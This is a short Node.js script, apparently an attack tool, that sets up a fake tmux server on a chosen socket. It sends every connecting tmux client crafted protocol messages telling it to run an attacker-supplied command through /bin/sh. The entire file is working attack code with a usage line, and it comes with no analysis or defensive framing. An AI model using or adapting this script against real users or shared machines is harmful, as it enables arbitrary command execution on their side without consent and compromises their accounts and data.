// A hostile tmux server: it makes each client run a command, as the protocol of tmux 3.3 allows (tmux-protocol.h).
// Usage: hostile-tmux.mjs SOCKET COMMAND
import { createServer } from "node:net";

const [socket, command] = process.argv.slice(2);
const VERSION = 8;
const MESSAGES = { exited: 204, ready: 207, exec: 217 };

/** Returns an imsg: a header with type, length, flags, peer and PID, and the data. */
function message(type, data = "") {
  const bytes = Buffer.from(data, "utf8");
  const header = Buffer.alloc(16);
  header.writeUInt32LE(type, 0);
  header.writeUInt16LE(16 + bytes.length, 4);
  header.writeUInt32LE(VERSION, 8);
  header.writeUInt32LE(process.pid, 12);
  return Buffer.concat([header, bytes]);
}

createServer((client) => {
  client.on("error", () => {});
  client.on("data", () => {});
  const attack = [
    message(MESSAGES.ready),
    message(MESSAGES.exec, `${command}\0/bin/sh\0`),
    message(MESSAGES.exited),
  ];
  setTimeout(() => client.write(Buffer.concat(attack)), 200);
}).listen(socket);
